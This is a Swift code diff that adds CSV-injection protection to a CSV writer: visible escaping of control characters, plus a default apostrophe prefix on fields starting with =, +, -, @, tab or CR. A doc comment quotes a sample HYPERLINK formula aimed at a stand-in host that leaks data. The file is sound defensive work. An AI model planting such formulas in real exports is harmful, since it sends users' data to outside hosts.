@@ -1,18 +1,33 @@
 /// RFC 4180 CSV: CRLF line ends, fields quoted when they hold a comma, a quote or a line break.
+///
+/// Two things keep a CSV file from acting on whoever opens it. Control characters other than tab, CR and
+/// LF are written visibly (``ControlCharacters``), since CSV is read on terminals too. And, unless
+/// `formulaGuard` is off, a field that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
+/// leading `'` (OWASP's rule against CSV injection): a spreadsheet would otherwise run a page title such as
+/// `=HYPERLINK("http://evil.example/?leak","Click")` as a formula. Programs that read the CSV as data can
+/// turn the guard off (`--raw-csv`).
 public enum CSVWriting {
     /// One record, ending in CRLF.
-    public static func record(_ fields: [String?]) -> String {
+    /// - Parameter formulaGuard: prefix `'` to fields a spreadsheet would read as a formula (the default).
+    public static func record(_ fields: [String?], formulaGuard: Bool = true) -> String {
         var line = ""
         line.reserveCapacity(256)
         for (index, field) in fields.enumerated() {
             if index > 0 { line += "," }
-            line += Self.field(field ?? "")
+            line += Self.field(field ?? "", formulaGuard: formulaGuard)
         }
         line += "\r\n"
         return line
     }
 
-    static func field(_ text: String) -> String {
+    /// The first characters that make a spreadsheet treat a cell as a formula.
+    static let formulaStarts: Set<UInt8> = [
+        UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D,
+    ]
+
+    static func field(_ text: String, formulaGuard: Bool = true) -> String {
+        var text = ControlCharacters.escaped(text, keeping: .layout)
+        if formulaGuard, let first = text.utf8.first, formulaStarts.contains(first) { text = "'" + text }
         // A byte scan: these four are ASCII, and Foundation's string search is slow on Linux.
         guard text.utf8.contains(where: { $0 == 0x2C || $0 == 0x22 || $0 == 0x0A || $0 == 0x0D }) else { return text }
         var quoted = "\""
@@ -23,5 +38,3 @@ public enum CSVWriting {
         return quoted + "\""
     }
 }
-
-import Foundation
